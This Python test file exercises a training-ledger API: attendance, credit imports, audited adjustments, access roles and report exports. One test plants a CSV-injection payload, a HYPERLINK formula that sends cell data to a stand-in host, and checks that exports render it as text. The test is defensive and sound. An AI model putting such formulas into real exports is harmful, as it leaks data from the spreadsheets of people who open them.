"""The ledger through the API: attendance, imports, adjustments, reports — and who may see what."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from classroom.db.models import CreditEvent, Role, Session, SessionKind
from classroom.people import create_person
from classroom.runtime import Services
from tests.api_helpers import Portal, make_portal

pytestmark = pytest.mark.anyio
TZ = ZoneInfo("Asia/Shanghai")


@pytest.fixture
async def portal(services: Services) -> Portal:
    p = await make_portal(services)
    async with services.sessionmaker() as db:
        await create_person(db, "trainer2", "另一位教员", [Role.TRAINER], "trainer2-demo-pw")
        await db.commit()
    return p


async def _session(portal: Portal) -> Session:
    """A 2023 training day (the plan on file is 2023's), taught by the demo trainer."""
    async with portal.services.sessionmaker() as db:
        now = await db.get(Session, portal.world.session_id)
        assert now is not None
        found = await db.scalar(select(Session).where(Session.title == "2023 training day"))
        if found is not None:
            return found
        day = Session(
            course_id=now.course_id,
            classroom_id=now.classroom_id,
            trainer_id=now.trainer_id,
            kind=SessionKind.TRAINING_DAY,
            title="2023 training day",
            # a day of its own (the demo's 2023 cohort is in May): its credit is the day's
            planned_start=datetime(2023, 6, 12, 9, tzinfo=TZ),
            planned_end=datetime(2023, 6, 12, 17, tzinfo=TZ),
        )
        db.add(day)
        await db.commit()
        return day


async def _ids(portal: Portal) -> dict[str, int]:
    async with portal.as_user("admin") as admin:
        r = await admin.get("/api/v1/me")
    async with portal.services.sessionmaker() as db:
        from classroom.db.models import Person

        rows = await db.execute(select(Person.username, Person.id))
        return dict(rows.all()) | {"_admin": r.json()["id"]}


async def test_trainer_records_attendance_and_the_officer_sees_the_credit(portal: Portal) -> None:
    ids = await _ids(portal)
    s = await _session(portal)
    year = s.planned_start.year
    async with portal.as_user("officer1") as officer:
        was = (await officer.get(f"/api/v1/compliance/me?year={year}")).json()
    before = next(p for p in was["parts"] if p["id"] == "all_staff")
    async with portal.as_user("trainer") as trainer:
        r = await trainer.post(
            f"/api/v1/sessions/{s.id}/attendance",
            json={
                "person_id": ids["officer1"],
                "check_in": s.planned_start.isoformat(),
                "check_out": s.planned_end.isoformat(),
                "event_id": "11111111-aaaa",
            },
        )
        assert r.status_code == 201, r.text
        again = await trainer.post(
            f"/api/v1/sessions/{s.id}/attendance",
            json={
                "person_id": ids["officer1"],
                "check_in": s.planned_start.isoformat(),
                "check_out": s.planned_end.isoformat(),
                "event_id": "11111111-aaaa",
            },
        )
        assert again.json()["id"] == r.json()["id"]  # the same event is stored once
        listed = await trainer.get(f"/api/v1/sessions/{s.id}/attendance")
        assert [a["person_id"] for a in listed.json()] == [ids["officer1"]]
    async with portal.as_user("officer1") as officer:
        mine = (await officer.get(f"/api/v1/compliance/me?year={year}")).json()
    part = next(p for p in mine["parts"] if p["id"] == "all_staff")
    entry = next(e for e in mine["entries"] if e["ref"] == "training_day:2023-06-12")
    assert (entry["hours"], entry["credits"]) == (8, 4)  # a training day, fully present
    assert (part["hours"], part["credits"]) == (before["hours"] + 8, before["credits"] + 4)


async def test_presence_is_judged_against_the_sessions_length(portal: Portal) -> None:
    """Through the API: at a 40-minute unit study, 10 minutes late and 10 early is half of it —
    nothing earned (it used to be the whole 学时); 4 minutes late is on time (10% of 40)."""
    ids = await _ids(portal)
    async with portal.services.sessionmaker() as db:
        demo = await db.get(Session, portal.world.session_id)
        assert demo is not None
        study = Session(
            course_id=demo.course_id,
            classroom_id=demo.classroom_id,
            trainer_id=demo.trainer_id,
            kind=SessionKind.UNIT_STUDY,
            title="2023 unit study, 40 minutes",
            planned_start=datetime(2023, 11, 20, 15, tzinfo=TZ),
            planned_end=datetime(2023, 11, 20, 15, 40, tzinfo=TZ),
        )
        db.add(study)
        await db.commit()
    start = study.planned_start.astimezone(TZ)
    async with portal.as_user("trainer") as trainer:
        for who, late, early in (("officer1", 10, 10), ("officer2", 4, 0)):
            r = await trainer.post(
                f"/api/v1/sessions/{study.id}/attendance",
                json={
                    "person_id": ids[who],
                    "check_in": (start + timedelta(minutes=late)).isoformat(),
                    "check_out": (start + timedelta(minutes=40 - early)).isoformat(),
                    "event_id": f"short-{who}",
                },
            )
            assert r.status_code == 201, r.text
    for who, earned in (("officer1", None), ("officer2", 1)):
        async with portal.as_user(who) as officer:
            mine = (await officer.get("/api/v1/compliance/me?year=2023")).json()
        got = [e["hours"] for e in mine["entries"] if e["ref"] == f"session:{study.id}"]
        assert got == ([] if earned is None else [earned]), (who, got)
    # The progress page names the session and links to it, not the ledger's reference.
    async with portal.as_user("officer2") as officer:
        page = (await officer.get("/progress?year=2023")).text
    assert f'<a href="/sessions/{study.id}">2023 unit study, 40 minutes</a>' in page
    assert f"session:{study.id}" not in page


async def test_attendance_input_is_validated(portal: Portal) -> None:
    ids = await _ids(portal)
    s = await _session(portal)
    async with portal.as_user("trainer") as trainer:
        backwards = await trainer.post(
            f"/api/v1/sessions/{s.id}/attendance",
            json={
                "person_id": ids["officer1"],
                "check_in": s.planned_end.isoformat(),
                "check_out": s.planned_start.isoformat(),
            },
        )
        far = await trainer.post(
            f"/api/v1/sessions/{s.id}/attendance",
            json={
                "person_id": ids["officer1"],
                "check_in": (s.planned_start - timedelta(days=3)).isoformat(),
            },
        )
        naive = await trainer.post(
            f"/api/v1/sessions/{s.id}/attendance",
            json={
                "person_id": ids["officer1"],
                "check_in": "2023-03-01T09:00:00",
            },
        )
        nobody = await trainer.post(
            f"/api/v1/sessions/{s.id}/attendance",
            json={
                "person_id": 9999,
                "check_in": s.planned_start.isoformat(),
            },
        )
    assert backwards.status_code == 422 and "after" in backwards.json()["detail"]
    assert far.status_code == 422 and "far from" in far.json()["detail"]
    assert naive.status_code == 422
    assert nobody.status_code == 404


async def test_attendance_belongs_to_the_sessions_own_trainer(portal: Portal) -> None:
    ids = await _ids(portal)
    s = await _session(portal)
    body = {"person_id": ids["officer1"], "check_in": s.planned_start.isoformat()}
    async with portal.client() as other:
        login = {"username": "trainer2", "password": "trainer2-demo-pw"}
        assert (await other.post("/api/v1/auth/login", json=login)).status_code == 200
        assert (await other.get(f"/api/v1/sessions/{s.id}/attendance")).status_code == 403
        assert (
            await other.post(f"/api/v1/sessions/{s.id}/attendance", json=body)
        ).status_code == 403
    async with portal.as_user("officer1") as officer:
        assert (await officer.get(f"/api/v1/sessions/{s.id}/attendance")).status_code == 403
        assert (
            await officer.post(f"/api/v1/sessions/{s.id}/attendance", json=body)
        ).status_code == 403
    async with portal.as_user("manager") as manager:
        assert (await manager.get(f"/api/v1/sessions/{s.id}/attendance")).status_code == 200
        assert (
            await manager.post(f"/api/v1/sessions/{s.id}/attendance", json=body)
        ).status_code == 403


async def test_officers_see_only_their_own_ledger(portal: Portal) -> None:
    ids = await _ids(portal)
    year = (await _session(portal)).planned_start.year
    async with portal.as_user("officer1") as officer:
        assert (
            await officer.get(f"/api/v1/compliance/officers/{ids['officer1']}?year={year}")
        ).status_code == 200
        r = await officer.get(f"/api/v1/compliance/officers/{ids['officer2']}?year={year}")
        assert r.status_code == 403 and "own" in r.json()["detail"]
        assert (await officer.get(f"/api/v1/compliance/bureau?year={year}")).status_code == 403
        assert (await officer.get(f"/api/v1/compliance/units/1?year={year}")).status_code == 403
    async with portal.as_user("trainer") as trainer:
        assert (
            await trainer.get(f"/api/v1/compliance/officers/{ids['officer2']}?year={year}")
        ).status_code == 403
        assert (await trainer.get(f"/api/v1/compliance/bureau?year={year}")).status_code == 403
    for who in ("manager", "admin"):
        async with portal.as_user(who) as boss:
            assert (
                await boss.get(f"/api/v1/compliance/officers/{ids['officer2']}?year={year}")
            ).status_code == 200
            assert (await boss.get(f"/api/v1/compliance/bureau?year={year}")).status_code == 200


async def test_the_bureau_report_lists_cohorts_and_who_has_days_to_make_up(
    portal: Portal,
) -> None:
    """The demo's 2023 first cohort (三天) was held; officer3 missed its third day."""
    ids = await _ids(portal)
    async with portal.as_user("manager") as manager:
        got = (await manager.get("/api/v1/compliance/bureau?year=2023")).json()
        page = await manager.get("/compliance?year=2023")
    assert (got["cohorts_held"], got["cohorts_required"]) == (1, 2)
    (cohort,) = got["cohorts"]
    assert (cohort["number"], cohort["days_held"], cohort["held"]) == (1, 3, True)
    assert [(s["officer_id"], s["days"]) for s in cohort["short"]] == [(ids["officer3"], 1.0)]
    assert "已举办 1 期（要求不少于 2 期）" in page.text
    assert "第1期 第一期" in page.text and "补 1 天" in page.text


async def test_a_year_without_a_plan_is_404(portal: Portal) -> None:
    async with portal.as_user("manager") as manager:
        r = await manager.get("/api/v1/compliance/bureau?year=2031")
    assert r.status_code == 404 and "2031" in r.json()["detail"]


ONLINE = (
    "badge_no,course,hours,credits,date\n"
    "D0004,依法行政,6,3,{y}-03-01\n"
    "D0005,廉政教育,4,2,{y}-04-02\n"
)


async def test_online_import_applies_once_and_reports_every_bad_line(portal: Portal) -> None:
    year = (await _session(portal)).planned_start.year
    good = ONLINE.format(y=year).encode()
    async with portal.services.sessionmaker() as db:
        events_before = await db.scalar(select(func.count()).select_from(CreditEvent))
    async with portal.as_user("officer1") as officer:
        was = (await officer.get(f"/api/v1/compliance/me?year={year}")).json()
    online_before = next(p for p in was["parts"] if p["id"] == "online")["hours"]
    async with portal.as_user("manager") as manager:
        first = await manager.post("/api/v1/imports/online", files={"file": ("a.csv", good)})
        assert first.status_code == 201, first.text
        assert first.json()["imported"] == 2
        again = await manager.post("/api/v1/imports/online", files={"file": ("b.csv", good)})
        assert again.json() == {**again.json(), "imported": 0, "already_imported": 2}
        bad = (
            f"警号,课程,学时,学分,日期\nD0004,新课,2,1,{year}-05-01\nX999,课,2,1,{year}-05-01\n"
            f"D0005,课,two,1,{year}-05-01\nD0005,课,2,1,{year}-13-01\n"
        ).encode()
        r = await manager.post("/api/v1/imports/online", files={"file": ("c.csv", bad)})
        assert r.status_code == 422
        assert [e["line"] for e in r.json()["errors"]] == [3, 4, 5]
        assert "X999" in r.json()["errors"][0]["message"]
        junk = await manager.post(
            "/api/v1/imports/online", files={"file": ("d.csv", b"\x89PNG\x00\x01")}
        )
        assert junk.status_code == 422 and "not a text file" in junk.json()["detail"]
        # Old Mac line endings (CR alone) are lines like any others: the same two rows, known.
        cr = good.replace(b"\n", b"\r")
        r = await manager.post("/api/v1/imports/online", files={"file": ("e.csv", cr)})
        assert r.status_code == 201 and r.json()["already_imported"] == 2, r.text
        # What the CSV reader cannot read at all is a 422 with where, not a 500.
        huge = good + b'D0004,"' + b"x" * 200_000 + b'",2,1,2026-05-01\n'
        r = await manager.post("/api/v1/imports/online", files={"file": ("f.csv", huge)})
        assert r.status_code == 422 and "not a readable CSV file" in r.json()["detail"], r.text
        assert r.json()["errors"][0]["line"] == 4
    async with portal.services.sessionmaker() as db:
        after = await db.scalar(select(func.count()).select_from(CreditEvent))
    assert after == events_before + 2  # a.csv once, nothing of c.csv or f.csv
    async with portal.as_user("officer1") as officer:
        r = await officer.post("/api/v1/imports/online", files={"file": ("a.csv", good)})
        assert r.status_code == 403
        mine = (await officer.get(f"/api/v1/compliance/me?year={year}")).json()
    assert next(p for p in mine["parts"] if p["id"] == "online")["hours"] == online_before + 6


async def test_adjustment_needs_a_reason_and_is_audited(portal: Portal) -> None:
    ids = await _ids(portal)
    year = (await _session(portal)).planned_start.year
    body = {
        "person_id": ids["officer2"],
        "part": "online",
        "hours": 2,
        "credits": 1,
        "on": f"{year}-06-01",
        "reason": "市局平台漏记，补录",
    }
    async with portal.as_user("officer2") as officer:
        assert (await officer.post("/api/v1/adjustments", json=body)).status_code == 403
        assert (await officer.get("/api/v1/audit")).status_code == 403
    async with portal.as_user("manager") as manager:
        short = await manager.post("/api/v1/adjustments", json={**body, "reason": "x"})
        assert short.status_code == 422 and "reason" in short.json()["detail"]
        unknown = await manager.post("/api/v1/adjustments", json={**body, "part": "bonus"})
        assert unknown.status_code == 422
        ok = await manager.post("/api/v1/adjustments", json=body)
        assert ok.status_code == 201, ok.text
        log = (await manager.get("/api/v1/audit")).json()
    entry = next(e for e in log if e["action"] == "credit.adjust")
    assert entry["actor_id"] == ids["manager"] and entry["reason"] == body["reason"]
    assert entry["target"] == f"person:{ids['officer2']}" and entry["detail"]["hours"] == 2
    async with portal.as_user("officer2") as officer:
        mine = (await officer.get(f"/api/v1/compliance/me?year={year}")).json()
    assert any(e["source"] == "adjustment" and e["note"] == body["reason"] for e in mine["entries"])


async def test_bureau_report_as_csv_and_xlsx(portal: Portal) -> None:
    year = (await _session(portal)).planned_start.year
    async with portal.as_user("manager") as manager:
        j = (await manager.get(f"/api/v1/compliance/bureau?year={year}&sort=name")).json()
        c = await manager.get(f"/api/v1/compliance/bureau?year={year}&format=csv")
        x = await manager.get(f"/api/v1/compliance/bureau?year={year}&format=xlsx")
    assert j["officers_total"] == 4 and j["officers_eligible"] == 0  # trainer is an officer too
    assert [o["name"] for o in j["officers"]] == sorted(o["name"] for o in j["officers"])
    assert c.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(c.content.decode("utf-8-sig"))))
    assert len(rows) == 4 and {"online_hours", "all_staff_credits", "eligible"} <= set(rows[0])
    wb = load_workbook(io.BytesIO(x.content))
    assert wb.sheetnames == ["officers", "units"]
    assert wb["officers"].max_row == 5 and wb["units"].max_row == 3


async def test_exports_write_formulas_as_text(portal: Portal) -> None:
    """A name typed as a formula stays text in the reader's spreadsheet (CSV injection)."""
    year = (await _session(portal)).planned_start.year
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    async with portal.services.sessionmaker() as db:
        from classroom.db.models import Person

        officer = await db.scalar(select(Person).where(Person.username == "officer3"))
        assert officer is not None
        officer.display_name = evil
        await db.commit()
    async with portal.as_user("manager") as manager:
        c = await manager.get(f"/api/v1/compliance/bureau?year={year}&format=csv")
        x = await manager.get(f"/api/v1/compliance/bureau?year={year}&format=xlsx")
    rows = list(csv.DictReader(io.StringIO(c.content.decode("utf-8-sig"))))
    assert "'" + evil in [r["name"] for r in rows]
    assert not [r for r in rows if r["name"].startswith(("=", "+", "-", "@"))]
    sheet = load_workbook(io.BytesIO(x.content))["officers"]
    (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == evil]
    assert cell.data_type == "s"  # a string, not a formula


async def test_study_items_form_refuses_bad_numbers(portal: Portal) -> None:
    s = await _session(portal)
    async with portal.as_user("trainer") as trainer:
        for form in ({"item": "²"}, {"item": "abc"}, {"item": "15", "articles_15": "999"}):
            r = await trainer.post(f"/sessions/{s.id}/study-items", data=form)
            assert r.status_code == 422, (form, r.status_code)
            assert "<main" in r.text  # the portal's error page, not a bare 500
        r = await trainer.post(
            f"/sessions/{s.id}/study-items", data={"item": "15", "articles_15": "2"}
        )
        assert r.status_code == 303


async def test_study_items_are_checked_against_the_plan(portal: Portal) -> None:
    s = await _session(portal)
    async with portal.as_user("trainer") as trainer:
        ok = await trainer.put(
            f"/api/v1/sessions/{s.id}/study-items",
            json=[{"item_no": 1}, {"item_no": 15, "articles": 3}],
        )
        assert ok.status_code == 200, ok.text
        assert (
            await trainer.put(f"/api/v1/sessions/{s.id}/study-items", json=[{"item_no": 99}])
        ).status_code == 422
        assert (
            await trainer.put(
                f"/api/v1/sessions/{s.id}/study-items", json=[{"item_no": 1, "articles": 2}]
            )
        ).status_code == 422
    async with portal.as_user("officer1") as officer:
        assert (
            await officer.put(f"/api/v1/sessions/{s.id}/study-items", json=[{"item_no": 2}])
        ).status_code == 403


async def test_attendance_import_is_validated_applied_once_and_credited(portal: Portal) -> None:
    s = await _session(portal)  # a 2023 training day, 09:00–17:00 Shanghai time
    ids = await _ids(portal)
    good = (
        f"场次,警号,签到,签退\n{s.id},D0005,2023-06-12 09:00,2023-06-12 17:00\n"
        f"{s.id},D0006,2023-06-12T01:05:00+00:00,\n"
    ).encode()
    async with portal.as_user("officer2") as officer:
        was = (await officer.get("/api/v1/compliance/me?year=2023")).json()
        refused = await officer.post("/api/v1/imports/attendance", files={"file": ("a.csv", good)})
        assert refused.status_code == 403
    async with portal.as_user("manager") as manager:
        first = await manager.post("/api/v1/imports/attendance", files={"file": ("a.csv", good)})
        assert first.status_code == 201, first.text
        assert (first.json()["imported"], first.json()["already_imported"]) == (2, 0)
        again = await manager.post("/api/v1/imports/attendance", files={"file": ("a.csv", good)})
        assert (again.json()["imported"], again.json()["already_imported"]) == (0, 2)
        bad = (
            f"session_id,badge_no,check_in,check_out\n{s.id},D0004,2023-06-12 09:00,\n"
            f"9999,D0004,2023-06-12 09:00,\n{s.id},NOPE,2023-06-12 09:00,\n"
            f"{s.id},D0004,yesterday,\n{s.id},D0004,2023-06-30 09:00,\n"
            f"{s.id},D0004,2023-06-12 12:00,2023-06-12 10:00\n"
        ).encode()
        r = await manager.post("/api/v1/imports/attendance", files={"file": ("b.csv", bad)})
        assert r.status_code == 422
        lines = {e["line"]: e["message"] for e in r.json()["errors"]}
        assert sorted(lines) == [3, 4, 5, 6, 7]
        assert "session 9999 not found" in lines[3] and "far from" in lines[6]
        listed = (await manager.get(f"/api/v1/sessions/{s.id}/attendance")).json()
    assert sorted(a["person_id"] for a in listed) == sorted([ids["officer2"], ids["officer3"]])
    assert all(a["source"] == "import" for a in listed)  # nothing of b.csv
    async with portal.as_user("officer2") as officer:
        now = (await officer.get("/api/v1/compliance/me?year=2023")).json()
    part = next(p for p in now["parts"] if p["id"] == "all_staff")
    before = next(p for p in was["parts"] if p["id"] == "all_staff")
    assert part["hours"] == before["hours"] + 8
